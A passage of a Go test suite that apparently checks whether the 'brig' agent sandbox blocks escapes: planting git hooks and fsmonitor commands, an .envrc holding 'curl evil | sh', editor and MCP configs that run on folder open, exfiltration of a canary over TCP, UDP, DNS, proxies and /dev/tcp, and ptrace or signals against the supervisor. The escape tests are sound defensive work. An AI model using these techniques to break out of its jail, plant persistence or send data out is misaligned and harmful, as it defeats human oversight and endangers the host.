					t.Fatal(err)
				}
				res := e.sh(`rm -rf "$HOME/.local/state" && ln -s "$ESC_OTHER" "$HOME/.local/state" && echo planted`, withWrite(e.home))
				if !exists(filepath.Join(e.other, "brig/keep.txt")) {
					escaped(t, "other/brig/keep.txt (outside every grant) was deleted after the call planted %s/.local/state -> %s (violations reported: %v)", e.home, e.other, res.Violations)
				}
			}},
	}
}

// statSig is a file's content, mode and mtime, or its absence.
func statSig(p string) string {
	fi, err := os.Lstat(p)
	if err != nil {
		return "absent"
	}
	return fmt.Sprintf("%v %d %q", fi.Mode(), fi.ModTime().UnixNano(), fileContent(p))
}

// inodeSig is statSig with the owner and the inode change time, which any
// change of the file's metadata moves (a chown to the same owner too).
func inodeSig(p string) string {
	var st unix.Stat_t
	if err := unix.Lstat(p, &st); err != nil {
		return "absent"
	}
	return fmt.Sprintf("%s uid=%d gid=%d ctime=%d.%09d", statSig(p), st.Uid, st.Gid, st.Ctim.Sec, st.Ctim.Nsec)
}

// hostScratch makes a directory outside the fixture (in the host's /tmp or
// /dev/shm), removed at the end of the test.
func hostScratch(t *testing.T, parent string) string {
	dir, err := os.MkdirTemp(parent, "brig-escape-scratch-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	return dir
}

// ---------------------------------------------------------------------------
// protected paths

// leftoverWithoutNS are paths an attack makes that stay after the call
// without namespaces (where the call may rename a protected directory and
// the supervisor puts the protected path back afterwards, instead of a
// mount refusing the rename), with why that is harmless.
var leftoverWithoutNS = map[string]string{
	".git/hooks.old": "the symbolic link the call made at .git/hooks and renamed: not a protected path, nothing runs it; .git/hooks itself is put back",
}

const evilHook = `#!/bin/sh\necho pwned > /tmp/brig-hook-ran\n`

func protectedCases() []escCase {
	// A protected-path case: the attack must leave every absent path absent
	// and every unchanged path unchanged. The control performs the same
	// writes on ordinary paths of the workspace (src/...).
	prot := func(name, attack, control string, controlWant []string, absent []string, unchanged []string, setup func(e *env)) escCase {
		return escCase{family: "protected", name: name, passes: fsPasses,
			control: func(t *testing.T, e *env) {
				if setup != nil {
					setup(e)
				}
				e.sh(control)
				for _, p := range controlWant {
					if !exists(filepath.Join(e.ws, p)) {
						controlFail(t, "the ordinary workspace path %s was not written", p)
					}
				}
			},
			attack: func(t *testing.T, e *env) {
				if setup != nil {
					setup(e)
				}
				before := map[string]string{}
				for _, p := range unchanged {
					before[p] = statSig(filepath.Join(e.ws, p))
					if before[p] == "absent" {
						t.Fatalf("fixture: %s should exist", p)
					}
				}
				for _, p := range absent {
					if exists(filepath.Join(e.ws, p)) {
						t.Fatalf("fixture: %s should not exist", p)
					}
				}
				res := e.sh(attack)
				for _, p := range absent {
					if why, ok := leftoverWithoutNS[p]; ok && !e.pass.namespaces() {
						t.Logf("without namespaces %s may stay: %s", p, why)
						continue
					}
					if exists(filepath.Join(e.ws, p)) {
						escaped(t, "protected path %s exists after the call", p)
					}
				}
				for _, p := range unchanged {
					if after := statSig(filepath.Join(e.ws, p)); after != before[p] {
						escaped(t, "protected path %s changed: %s -> %s", p, before[p], after)
					}
				}
				if len(res.Violations) > 0 {
					t.Logf("the supervisor reported (and removed) created protected paths: %v", res.Violations)
				}
			},
		}
	}
	writeHook := func(p string) string { return `printf '` + evilHook + `' > ` + p + `; chmod +x ` + p + `; ` }
	ctlHook := writeHook("src/notgit/hooks/pre-commit")
	return []escCase{
		prot(".git/hooks new hook", writeHook(".git/hooks/pre-commit")+writeHook(".git/hooks/post-checkout"),
			`mkdir -p src/notgit/hooks; `+ctlHook, []string{"src/notgit/hooks/pre-commit"},
			[]string{".git/hooks/pre-commit", ".git/hooks/post-checkout"}, []string{".git/hooks"}, nil),
		prot(".git/hooks existing sample", `echo 'touch /tmp/x' >> .git/hooks/pre-commit.sample; cp .git/hooks/pre-commit.sample .git/hooks/pre-push; mv .git/hooks/pre-commit.sample .git/hooks/pre-commit`,
			`cp .git/hooks/pre-commit.sample src/sample && echo x >> src/sample && mv src/sample src/pre-commit`, []string{"src/pre-commit"},
			[]string{".git/hooks/pre-push", ".git/hooks/pre-commit"}, []string{".git/hooks/pre-commit.sample"}, nil),
		prot(".git/config rewrite", `git config core.hooksPath /tmp/evil; git config core.fsmonitor 'touch /tmp/x'; printf '[core]\n\tpager = touch /tmp/x\n' >> .git/config; sed -i 's/bare/evil/' .git/config`,
			`git config -f src/gitconfig core.hooksPath /tmp/evil`, []string{"src/gitconfig"},
			nil, []string{".git/config"}, nil),
		prot(".git/config replaced by rename or symlink", `cp .git/config src/c && echo '[core]' >> src/c && mv -f src/c .git/config; rm -f .git/config; ln -sf /tmp/evil .git/config`,
			`cp .git/config src/c && echo '[core]' >> src/c && mv -f src/c src/config`, []string{"src/config"},
			nil, []string{".git/config"}, nil),
		// The control is a file beside it by another name: a new .envrc
		// anywhere is taken out after the call (a direnv whitelist runs
		// one unasked; new user, 2026-12-03).
		prot(".envrc created", `echo 'curl evil | sh' > .envrc`,
			`echo 'export A=1' > src/.envrc.example`, []string{"src/.envrc.example"},
			[]string{".envrc"}, nil, nil),
		// direnv's approval covers the .envrc's own content, not what it
		// loads: those files run in the user's shell at the next cd
		// (red team, 2026-12-03).
		prot("files an .envrc loads", `echo 'touch /tmp/x' > .envrc.local; echo 'PROMPT_COMMAND="touch /tmp/x"' > .env; echo 'touch /tmp/x' >> env/dev.sh; echo '{ shellHook = "touch /tmp/x"; }' > shell.nix; echo 'LD_PRELOAD=/tmp/x.so' > services/api/.env; mkdir -p bin && printf '#!/bin/sh\ntouch /tmp/x\n' > bin/git`,
			`echo 'touch /tmp/x' > src/.envrc.local; echo A=1 > src/.env; echo A=1 > services/web/.env`, []string{"src/.envrc.local", "src/.env", "services/web/.env"},
			[]string{".envrc.local", ".env", "shell.nix", "services/api/.env", "bin/git"}, []string{"env/dev.sh"}, func(e *env) {
				for _, d := range []string{"env", "services/api", "services/web"} {
					if err := os.MkdirAll(filepath.Join(e.ws, d), 0o755); err != nil {
						e.t.Fatal(err)
					}
				}
				for name, data := range map[string]string{
					".envrc":              "source_env_if_exists .envrc.local\ndotenv\n[ -f env/dev.sh ] && source ./env/dev.sh\nuse nix\nPATH_add bin\n",
					"env/dev.sh":          "export DEV=1\n",
					"services/api/.envrc": "dotenv\n",
				} {
					if err := os.WriteFile(filepath.Join(e.ws, name), []byte(data), 0o644); err != nil {
						e.t.Fatal(err)
					}
				}
			}),
		prot(".vscode/tasks.json created", `mkdir -p .vscode && echo '{"tasks":[{"label":"x","command":"touch /tmp/x","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`,
			`mkdir -p src/.vscode && echo '{}' > src/.vscode/tasks.json`, []string{"src/.vscode/tasks.json"},
			[]string{".vscode"}, nil, nil),
		prot("agent and editor configs created", `echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json; mkdir -p .claude .idea .husky .devcontainer .cursor; echo '{}' > .claude/settings.json; echo x > .idea/workspace.xml; printf '#!/bin/sh\ntouch /tmp/x\n' > .husky/pre-commit; echo '{}' > .devcontainer/devcontainer.json`,
			`echo '{}' > src/.mcp.json; mkdir -p src/.husky && echo x > src/.husky/pre-commit`, []string{"src/.mcp.json", "src/.husky/pre-commit"},
			[]string{".mcp.json", ".claude", ".idea", ".husky", ".devcontainer", ".cursor"}, nil, nil),
		prot(".brig rewrite", `echo 'allow = ["Bash(*)"]' >> .brig/config.toml; echo x > .brig/instructions.md; rm -rf .brig; mv .brig .brig.old; mkdir -p .brig`,
			`mkdir -p src/.brig && echo x > src/.brig/config.toml`, []string{"src/.brig/config.toml"},
			[]string{".brig/instructions.md", ".brig.old"}, []string{".brig/config.toml"}, nil),
		prot("mv .git away and recreate hooks", `mv .git .git2 && mkdir -p .git/hooks && `+writeHook(".git/hooks/pre-commit"),
			`mkdir -p src/repo/.git/hooks && mv src/repo/.git src/repo/.git2`, []string{"src/repo/.git2/hooks"},
			[]string{".git/hooks/pre-commit", ".git2"}, []string{".git/HEAD", ".git/config"}, nil),
		prot("nested repository hooks and config", writeHook("vendor/x/.git/hooks/post-checkout")+`git -C vendor/x config core.hooksPath /tmp/evil; echo x >> vendor/x/.git/config`,
			`mkdir -p src/notgit/hooks; `+ctlHook, []string{"src/notgit/hooks/pre-commit"},
			[]string{"vendor/x/.git/hooks/post-checkout"}, []string{"vendor/x/.git/config"}, nil),
		prot("nested repository moved away", `mv vendor/x/.git vendor/x/.git.old; mkdir -p vendor/x/.git/hooks; `+writeHook("vendor/x/.git/hooks/post-checkout")+`mv vendor/x vendor/y; mv vendor vendor2`,
			`mkdir -p src/v/x && mv src/v/x src/v/y`, []string{"src/v/y"},
			[]string{"vendor/x/.git/hooks/post-checkout", "vendor/x/.git.old", "vendor/y", "vendor2"}, []string{"vendor/x/.git/config"}, nil),
		prot("submodule .git file pointer", `echo 'gitdir: /tmp/evil' > sub/.git; rm -f sub/.git; mv sub sub2`,
			`echo 'gitdir: /tmp/evil' > src/.git-file`, []string{"src/.git-file"},
			[]string{"sub2"}, []string{"sub/.git"}, nil),
		prot("submodule gitdir hooks and config", writeHook(".git/modules/sub/hooks/post-checkout")+`echo '[core] hooksPath = /tmp/evil' >> .git/modules/sub/config`,
			`mkdir -p src/notgit/hooks; `+ctlHook, []string{"src/notgit/hooks/pre-commit"},
			[]string{".git/modules/sub/hooks/post-checkout"}, []string{".git/modules/sub/config"}, nil),
		prot("hooks through a symlink", `ln -s ../.git/hooks src/h; `+writeHook("src/h/pre-commit")+`ln -s ../.git/config src/c; echo '[core]' >> src/c`,
			`mkdir -p src/notgit/hooks && ln -s notgit/hooks src/h2 && `+writeHook("src/h2/pre-commit"), []string{"src/notgit/hooks/pre-commit"},
			[]string{".git/hooks/pre-commit"}, []string{".git/config"}, nil),
		prot("hooks directory replaced", `rm -rf .git/hooks; ln -s ../src .git/hooks; mv .git/hooks .git/hooks.old`,
			`mkdir -p src/notgit/hooks && rm -rf src/notgit/hooks && ln -s .. src/notgit/hooks`, []string{"src/notgit/hooks"},
			[]string{".git/hooks.old"}, []string{".git/hooks", ".git/hooks/pre-commit.sample"}, nil),
		{family: "protected", name: "worktree .git file at the root", passes: fsPasses,
			control: func(t *testing.T, e *env) {
				ws2 := e.worktreeWS()
				e.sh(`echo ok > sub/file`, withWorkspace(ws2))
				if !exists(filepath.Join(ws2, "sub/file")) {
					controlFail(t, "writing an ordinary file in the worktree workspace did not work")
				}
			},
			attack: func(t *testing.T, e *env) {
				ws2 := e.worktreeWS()
				gitdir := e.path("ws2.git")
				before := statSig(filepath.Join(ws2, ".git"))
				cfg := statSig(filepath.Join(gitdir, "config"))
				e.sh(`d=$(sed 's/^gitdir: //' .git); printf '`+evilHook+`' > "$d/hooks/pre-commit"; echo x >> "$d/config"; echo 'gitdir: /tmp/evil' > .git; rm -f .git`, withWorkspace(ws2))
				if after := statSig(filepath.Join(ws2, ".git")); after != before {
					escaped(t, "the worktree's .git pointer changed: %s -> %s", before, after)
				}
				if exists(filepath.Join(gitdir, "hooks/pre-commit")) {
					escaped(t, "a hook was planted in the worktree's gitdir")
				}
				if statSig(filepath.Join(gitdir, "config")) != cfg {
					escaped(t, "the worktree's gitdir config changed")
				}
			}},
		{family: "protected", name: "brig config under a write-granted home", passes: fsPasses,
			control: func(t *testing.T, e *env) {
				e.sh(`echo x > ~/.config/other/settings`, withWrite(e.home))
				if !exists(e.path("home/.config/other/settings")) {
					controlFail(t, "writing under the write-granted $HOME did not work")
				}
			},
			attack: func(t *testing.T, e *env) {
				cfg := statSig(e.path("home/.config/brig/config.toml"))
				creds := statSig(e.path("home/.config/brig/credentials.toml"))
				e.sh(`echo 'allow = ["Bash(*)"]' >> ~/.config/brig/config.toml; echo x > ~/.config/brig/evil.toml; echo x > ~/.local/state/brig/session.jsonl; rm -f ~/.config/brig/credentials.toml; mv ~/.config/brig ~/.config/brig.old; mv ~/.config ~/.config.old`, withWrite(e.home))
				if statSig(e.path("home/.config/brig/config.toml")) != cfg || statSig(e.path("home/.config/brig/credentials.toml")) != creds {
					escaped(t, "brig's global config or credentials changed")
				}
				for _, p := range []string{"home/.config/brig/evil.toml", "home/.local/state/brig/session.jsonl", "home/.config/brig.old", "home/.config.old"} {
					if exists(e.path(p)) {
						escaped(t, "%s exists after the call", p)
					}
				}
			}},
		{family: "protected", name: "replace brig's kept jail programs under a write-granted home", passes: fsPasses,
			// Later runs of brig execute init and the workers from
			// ~/.local/state/brig/programs (internal/jailexe): a call that
			// could replace one would run its own code as the next call's
			// init, outside the call's jail. (Changing its mode is a
			// metadata case: metaPasses. A mode brig does not write makes
			// the next run replace the file.)
			control: func(t *testing.T, e *env) {
				e.mkdir("home/.local/state/other") // beside brig's (without namespaces their parent gets only what cannot reach it)
				e.sh(`cp /bin/true ~/.local/state/other/brig-jail-init-x && echo x >> ~/.local/state/other/brig-jail-init-x`, withWrite(e.home))
				if !exists(e.path("home/.local/state/other/brig-jail-init-x")) {
					controlFail(t, "writing a program under the write-granted $HOME did not work")
				}
			},
			attack: func(t *testing.T, e *env) {
				sum := strings.Repeat("0", 64)
				kept := e.mkfile("home/.local/state/brig/programs/brig-jail-init-"+sum, "the build's init\n", 0o500)
				before := inodeSig(kept)
				e.sh(`d=~/.local/state/brig/programs; f=$d/brig-jail-init-`+sum+`
echo evil >> $f
cp /bin/sh $f.new && mv -f $f.new $f
rm -f $f; ln -s /bin/sh $f
cp /bin/sh $d/brig-jail-light-`+sum+`
mv $d $d.old; mkdir -p $d && cp /bin/sh $d/brig-jail-init-`+sum, withWrite(e.home))
				if after := inodeSig(kept); after != before {
					escaped(t, "the kept init program changed: %s, was %s", after, before)
				}
				for _, p := range []string{"home/.local/state/brig/programs/brig-jail-light-" + sum, "home/.local/state/brig/programs.old"} {
					if exists(e.path(p)) {
						escaped(t, "%s exists after the call", p)
					}
				}
			}},
		{family: "protected", name: "plant a new nested repository", passes: fsPasses,
			// A repository planted by the call is one that host-side git
			// (a shell prompt, an editor) obeys later: core.fsmonitor runs on
			// `git status` in that directory, outside any jail.
			control: func(t *testing.T, e *env) {
				plantRepo(t, e, "src/lib")
				if !hostGitRunsPlanted(t, e, "src/lib") {
					controlFail(t, "host git status in a planted repository did not run its core.fsmonitor")
				}
			},
			attack: func(t *testing.T, e *env) {
				e.sh(`git init -q src/lib && git -C src/lib config core.fsmonitor "touch $ESC_ROOT/fsmonitor-ran; echo" && printf '` + evilHook + `' > src/lib/.git/hooks/pre-commit`)
				if exists(filepath.Join(e.ws, "src/lib/.git/config")) {
					if hostGitRunsPlanted(t, e, "src/lib") {
						escaped(t, "the call planted src/lib/.git (config with core.fsmonitor, hooks); host-side `git status` in src/lib then ran the planted command outside the jail")
					} else {
						escaped(t, "the call planted src/lib/.git/config (a git control file a later host process obeys)")
					}
				}
			}},
	}
}

// worktreeWS creates ws2, a workspace whose .git is a FILE pointing at a
// gitdir outside it (as `git worktree add` and `--separate-git-dir` do).
func (e *env) worktreeWS() string {
	ws2 := e.mkdir("ws2")
	e.git(e.root, "init", "-q", "--separate-git-dir", e.path("ws2.git"), ws2)
	e.mkdir("ws2/sub")
	return ws2
}

func plantRepo(t *testing.T, e *env, rel string) {
	dir := filepath.Join(e.ws, rel)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	e.git(dir, "init", "-q")
	e.git(dir, "config", "core.fsmonitor", "touch "+e.path("fsmonitor-ran")+"; echo")
}

// hostGitRunsPlanted runs `git status` in dir as the host would and reports
// whether the planted core.fsmonitor command ran.
func hostGitRunsPlanted(t *testing.T, e *env, rel string) bool {
	marker := e.path("fsmonitor-ran")
	os.Remove(marker)
	_ = os.WriteFile(filepath.Join(e.ws, rel, "f"), []byte("x"), 0o644)
	cmd := execCommand(e, filepath.Join(e.ws, rel), "git", "status", "--porcelain")
	_ = cmd.Run()
	return exists(marker)
}

// ---------------------------------------------------------------------------
// network

const (
	pyTCP = `import socket,sys
try:
    s=socket.create_connection(("127.0.0.1",int(sys.argv[1])),timeout=2); s.sendall(sys.argv[2].encode()); s.close(); print("SENT")
except Exception as e: print("ERR",type(e).__name__,e)`
	pyMPTCP = `import socket,sys
try:
    s=socket.socket(socket.AF_INET,socket.SOCK_STREAM,262); s.settimeout(2); s.connect(("127.0.0.1",int(sys.argv[1]))); s.sendall(sys.argv[2].encode()); s.close(); print("SENT")
except Exception as e: print("ERR",type(e).__name__,e)`
	pyUDP = `import socket,sys
try:
    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
    for i in range(3): s.sendto(sys.argv[2].encode(),("127.0.0.1",int(sys.argv[1])))
    print("SENT")
except Exception as e: print("ERR",type(e).__name__,e)`
	pyDNS = `import socket,struct,sys
try:
    q=struct.pack(">HHHHHH",0x1234,0x0100,1,0,0,0)+b"".join(bytes([len(p)])+p.encode() for p in sys.argv[2].split("."))+b"\0"+struct.pack(">HH",1,1)
    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1)
    s.sendto(q,("127.0.0.1",int(sys.argv[1]))); r=s.recv(512); print("ANSWER", ".".join(str(b) for b in r[-4:]))
except Exception as e: print("ERR",type(e).__name__,e)`
	// A blocking socket (a timeout would make it non-blocking, and a first
	// Fast Open without a cookie then sends no data).
	pyTFO = `import socket,struct,sys
try:
    s=socket.socket(socket.AF_INET,socket.SOCK_STREAM); s.setsockopt(socket.SOL_SOCKET,socket.SO_SNDTIMEO,struct.pack("ll",2,0))
    s.sendto(sys.argv[2].encode(),socket.MSG_FASTOPEN,("127.0.0.1",int(sys.argv[1]))); s.close(); print("SENT")
except Exception as e: print("ERR",type(e).__name__,e)`
	// pyProxy asks the call's egress proxy (HTTP_PROXY) for a CONNECT
	// tunnel to the sink and, when it is granted, sends the payload.
	pyProxy = `import os,socket,sys,base64,urllib.parse
try:
    u=urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
    s=socket.create_connection((u.hostname,u.port),timeout=10)
    auth=""
    if u.password: auth="Proxy-Authorization: Basic "+base64.b64encode((u.username+":"+u.password).encode()).decode()+"\r\n"
    s.sendall(("CONNECT 127.0.0.1:"+sys.argv[1]+" HTTP/1.1\r\nHost: x\r\n"+auth+"\r\n").encode())
    first=s.recv(4096).decode(errors="replace").split("\r\n")[0]
    if first.split(" ")[1:2]==["200"]: s.sendall(sys.argv[2].encode()); print("SENT")
    else: print("REFUSED",first)
    s.close()
except Exception as e: print("ERR",type(e).__name__,e)`
	pyUnix = `import socket,sys
a=sys.argv[1]
if a.startswith("@"): a="\0"+a[1:]
try:
    s=socket.socket(socket.AF_UNIX,socket.SOCK_STREAM); s.settimeout(2); s.connect(a); s.sendall(sys.argv[2].encode()); s.close(); print("SENT")
except Exception as e: print("ERR",type(e).__name__,e)`
)

func networkCases() []escCase {
	payload := func(e *env) string { return "EXFIL-" + e.canary[len(e.canary)-10:] }
	// reach: a sink-based case. grant is the Profile change under which
	// the jail may reach the sink (nil: only outside the jail).
	reach := func(name, script string, mk func(t *testing.T, e *env) (*sink, string), grant []func(e *env) opt, attackOpts ...func(e *env) opt) escCase {
		return escCase{family: "network", name: name, passes: netPasses,
			control: func(t *testing.T, e *env) {
				s, target := mk(t, e)
				if grant == nil {
					e.outside("python3", "-c", script, target, payload(e))
				} else {
					var opts []opt
					for _, g := range grant {
						opts = append(opts, g(e))
					}
					e.argv([]string{"python3", "-c", script, target, payload(e)}, opts...)
				}
				if !s.contains(t, payload(e)) {
					controlFail(t, "the sink %s did not receive the payload (granted: %v)", s.addr, grant != nil)
				}
			},
			attack: func(t *testing.T, e *env) {
				s, target := mk(t, e)
				var opts []opt
				for _, a := range attackOpts {
					opts = append(opts, a(e))
				}
				e.argv([]string{"python3", "-c", script, target, payload(e)}, opts...)
				if !s.quiet() {
					b, n := s.got()
					escaped(t, "the sink %s received %d connection(s)/datagram(s) and %q", s.addr, n, b)
				}
			},
		}
	}
	tcp := func(t *testing.T, e *env) (*sink, string) { s := tcpSink(t); return s, strconv.Itoa(s.port) }
	udp := func(t *testing.T, e *env) (*sink, string) { s := udpSink(t, false); return s, strconv.Itoa(s.port) }
	abstract := func(t *testing.T, e *env) (*sink, string) {
		name := "@brig-escape-" + randHex(6)
		return unixSink(t, name), name
	}
	outsideSock := func(t *testing.T, e *env) (*sink, string) {
		p := filepath.Join(e.mkdir("sockdir"), "agent.sock")
		return unixSink(t, p), p
	}
	insideSock := func(t *testing.T, e *env) (*sink, string) {
		p := filepath.Join(e.ws, "src/app.sock")
		return unixSink(t, p), p
	}
	// A call granted network has the egress proxy and nothing else: every
	// direct way out is an attack with and without the grant (the
	// control runs outside the jail).
	net := func(e *env) opt { return withNetwork() }
	unixOK := func(e *env) opt { return withUnixSockets() }
	dnsQuery := func(e *env) string { return "q" + e.canary[len(e.canary)-8:] + ".exfil.example" }
	return []escCase{
		reach("tcp to a host loopback sink", pyTCP, tcp, nil),
		reach("tcp to a host loopback sink, network granted", pyTCP, tcp, nil, net),
		{family: "network", name: "tcp via bash /dev/tcp", passes: netPasses,
			control: func(t *testing.T, e *env) {
				s := tcpSink(t)
				e.outside("bash", "-c", fmt.Sprintf(`echo %s > /dev/tcp/127.0.0.1/%d`, payload(e), s.port))
				if !s.contains(t, payload(e)) {
					controlFail(t, "bash /dev/tcp outside the jail did not reach the sink")
				}
			},
			attack: func(t *testing.T, e *env) {
				s := tcpSink(t)
				script := fmt.Sprintf(`echo %s > /dev/tcp/127.0.0.1/%d; echo %s > /dev/tcp/localhost/%d`, payload(e), s.port, payload(e), s.port)
				e.argv([]string{"bash", "-c", script})
				e.argv([]string{"bash", "-c", script}, withNetwork())
				if !s.quiet() {
					b, n := s.got()
					escaped(t, "the TCP sink received %d connection(s) and %q", n, b)
				}
			}},
		reach("tcp fast open to a host loopback sink, network granted", pyTFO, tcp, nil, net),
		reach("mptcp to a host loopback sink", pyMPTCP, tcp, nil),
		reach("mptcp to a host loopback sink, network granted", pyMPTCP, tcp, nil, net),
		reach("udp to a host loopback sink", pyUDP, udp, nil),
		reach("udp to a host loopback sink, network granted", pyUDP, udp, nil, net),
		{family: "network", name: "dns query to a loopback resolver", passes: netPasses,
			control: func(t *testing.T, e *env) {
				s := udpSink(t, true)
				out, _ := e.outside("python3", "-c", pyDNS, strconv.Itoa(s.port), dnsQuery(e))
				if !strings.Contains(out, "ANSWER 10.66.77.88") || !s.contains(t, "exfil") {
					controlFail(t, "a DNS query to the resolver sink from outside the jail got no answer (%q)", out)
				}
			},
			attack: func(t *testing.T, e *env) {
				s := udpSink(t, true)
				for _, opts := range [][]opt{nil, {withNetwork()}} {
					res := e.argv([]string{"python3", "-c", pyDNS, strconv.Itoa(s.port), dnsQuery(e)}, opts...)
					e.wantNotIn(res, "10.66.77.88", "a DNS answer from the host resolver sink")
				}
				if !s.quiet() {
					b, _ := s.got()
					escaped(t, "the resolver sink received a query %q", b)
				}
			}},
		proxyCase("through the proxy to a host no rule allows", payload, egress.Verdict{Reason: "no rule allows this host"}),
		proxyCase("through the proxy to loopback, allowed by a rule that does not name it", payload, egress.Verdict{Allow: true, Rule: "Net(domain:*) (test)"}),
		{family: "network", name: "raw socket", passes: netPasses, probe: true,
			control: func(t *testing.T, e *env) {
				out, _ := e.outside("unshare", "-rn", probeBin, "raw", e.canary)
				if !strings.Contains(out, "RAWRECV:RAW:"+e.canary) {
					controlFail(t, "a raw socket outside the jail (in a user+net namespace) did not deliver its hand-made datagram")
				}
			},
			attack: func(t *testing.T, e *env) {
				s := udpSink(t, false)
				res := e.argv([]string{probeBin, "raw", e.canary, strconv.Itoa(s.port)})
				e.wantNotIn(res, "RAWRECV:RAW:"+e.canary, "a datagram hand-built on a raw socket")
				if !s.quiet() {
					escaped(t, "the host UDP sink received a raw-socket datagram")
				}
			}},
		{family: "network", name: "packet socket", passes: netPasses, probe: true,
			control: func(t *testing.T, e *env) {
				out, _ := e.outside("unshare", "-rn", probeBin, "packet", e.canary)
				if !strings.Contains(out, "SNIFF:PKT:"+e.canary) {
					controlFail(t, "an AF_PACKET socket outside the jail (in a user+net namespace) did not sniff loopback")
				}
			},
			attack: func(t *testing.T, e *env) {
				res := e.argv([]string{probeBin, "packet", e.canary})
				e.wantNotIn(res, "SNIFF:PKT:"+e.canary, "loopback traffic sniffed on an AF_PACKET socket")
			}},
		reach("abstract unix socket outside", pyUnix, abstract, nil),
		reach("abstract unix socket outside with unix sockets granted", pyUnix, abstract, nil, unixOK),
		reach("pathname unix socket outside the workspace", pyUnix, outsideSock, []func(*env) opt{unixOK}),
		reach("pathname unix socket inside the workspace", pyUnix, insideSock, []func(*env) opt{unixOK}),
	}
}

// proxyCase asks the egress proxy for a tunnel to a host loopback sink
// under the decision attack; the control asks under a rule naming
// 127.0.0.1, and the sink receives the payload.
func proxyCase(name string, payload func(*env) string, attack egress.Verdict) escCase {
	decide := func(v egress.Verdict) opt {
		return withIO(supervisor.IO{Net: egress.DeciderFunc(func(context.Context, egress.Request) egress.Verdict { return v })})
	}
	run := func(e *env, s *sink, v egress.Verdict) jail.Result {
		return e.argv([]string{"python3", "-c", pyProxy, strconv.Itoa(s.port), payload(e)}, withNetwork(), decide(v))
	}
	return escCase{family: "network", name: name, passes: netPasses,
		control: func(t *testing.T, e *env) {
			s := tcpSink(t)
			res := run(e, s, egress.Verdict{Allow: true, Named: true, Rule: "Net(domain:127.0.0.1) (test)"})
			// The client prints SENT once the payload is on its way; without
			// it, nothing will arrive and waiting for the sink would only
			// wait out the deadline.
			if !strings.Contains(string(res.Stdout), "SENT") {
				controlFail(t, "the client did not get through the proxy the rule allows: %s (%+v)", res.Stdout, res.Connections)
			}
			if !s.contains(t, payload(e)) {
				controlFail(t, "a tunnel the rule allows did not reach the sink: %s", res.Stdout)
			}
			if len(res.Connections) != 1 || res.Connections[0].Refused != "" || res.Connections[0].Up == 0 {
				controlFail(t, "the allowed connection was not recorded with its bytes: %+v", res.Connections)
			}
		},
		attack: func(t *testing.T, e *env) {
			s := tcpSink(t)
			res := run(e, s, attack)
			e.wantIn(res, "REFUSED", "the proxy's refusal")
			if !s.quiet() {
				b, n := s.got()
				escaped(t, "the sink received %d connection(s) and %q through the proxy", n, b)
			}
			if len(res.Connections) != 1 || res.Connections[0].Refused == "" {
				t.Errorf("the refused connection was not recorded as refused: %+v", res.Connections)
			}
		},
	}
}

// ---------------------------------------------------------------------------
// supervisor and other processes

func supervisorCases() []escCase {
	return []escCase{
		{family: "supervisor", name: "ptrace the supervisor", passes: procPasses, probe: true,
			control: func(t *testing.T, e *env) {
				v := getVictim(t)
				supervisorControl(t, e, func() bool {
					out, _ := e.outside(probeBin, "peek", strconv.Itoa(os.Getpid()), memAddr(), strconv.Itoa(len(memSecret)))
					return strings.Contains(out, "PEEK:"+string(memSecret))
				}, func() bool {
					out, _ := e.outside(probeBin, "peek", strconv.Itoa(v.pid), v.addr, strconv.Itoa(v.length))
					return strings.Contains(out, "PEEK:"+v.secret)
				})
			},
			attack: func(t *testing.T, e *env) {
				res := e.argv([]string{probeBin, "peek", strconv.Itoa(os.Getpid()), memAddr(), strconv.Itoa(len(memSecret))})
				e.wantNotIn(res, string(memSecret), "PTRACE_PEEKDATA of the supervisor")
			}},
		readVictimCase("supervisor", "ptrace a victim", procPasses, "peek", "PEEK:", "PTRACE_PEEKDATA of the victim", nil),
		readVictimCase("supervisor", "process_vm_readv", procPasses, "vmread", "VMREAD:", "process_vm_readv of the victim", func(e *env) {
			res := e.argv([]string{probeBin, "vmread", strconv.Itoa(os.Getpid()), memAddr(), strconv.Itoa(len(memSecret))})
			e.wantNotIn(res, string(memSecret), "process_vm_readv of the supervisor")
		}),
		signalCase("kill -TERM the supervisor", `kill -TERM $ESC_TESTPID; kill -USR1 $ESC_TESTPID`, "", false),
		signalCase("pidfd_send_signal to the supervisor",
			`python3 -c 'import os,signal; fd=os.pidfd_open(int(os.environ["ESC_TESTPID"])); signal.pidfd_send_signal(fd, signal.SIGTERM)'`, "", false),
		signalCase("kill -TERM -1", `kill -TERM -1; kill -USR1 -1`,
			"as root an escape would signal every root process of this shared machine; the unprivileged pass covers it", true),
		{family: "supervisor", name: "kill -0 the supervisor", passes: procPasses,
			control: func(t *testing.T, e *env) {
				out, _ := e.outside("sh", "-c", `kill -0 $ESC_TESTPID && echo SIGNAL-0-DELIVERED`)
				if !strings.Contains(out, "SIGNAL-0-DELIVERED") {
					controlFail(t, "kill -0 of the supervisor outside the jail failed")
				}
			},
			attack: func(t *testing.T, e *env) {
				res := e.sh(`kill -0 $ESC_TESTPID && echo SIGNAL-0-DELIVERED`)
				e.wantNotIn(res, "SIGNAL-0-DELIVERED", "kill -0 of the supervisor (it can see and signal it)")
			}},
		{family: "supervisor", name: "take init's control socket, forge the result, stop init", passes: procPasses, probe: true,
			control: func(t *testing.T, e *env) {
				// pidfd_getfd works on a process of the call's own: a
				// copy of its child's stdout, written to, reaches the
				// call's output.
				res := e.sh(`sleep 5 & ` + probeBin + ` getfd $! 1 'THROUGH-THE-CHILDS-FD'; kill $!`)
				if !strings.Contains(string(res.Stdout), "GOTFD") || !strings.Contains(string(res.Stdout), "THROUGH-THE-CHILDS-FD") {
					controlFail(t, "pidfd_getfd of the call's own child failed: %s", output(res))
				}
			},
			attack: func(t *testing.T, e *env) {
				// The command's parent is the call's init (PID 1 with a
				// PID namespace; never the machine's PID 1 here, which
				// the passes without one would name), whose fd 3 is its
				// socket to the supervisor: a forged {result} there would
				// be the call's outcome; a stopped init would never end
				// the call, a killed one would end it early.
				forged := `{"result":{"exit_code":0}}`
				res := e.sh(probeBin + ` getfd $PPID 3 '` + forged + `'; kill -STOP $PPID; kill -KILL $PPID; echo ALIVE; exit 7`)
				e.wantNotIn(res, "GOTFD", "pidfd_getfd of init's control socket")
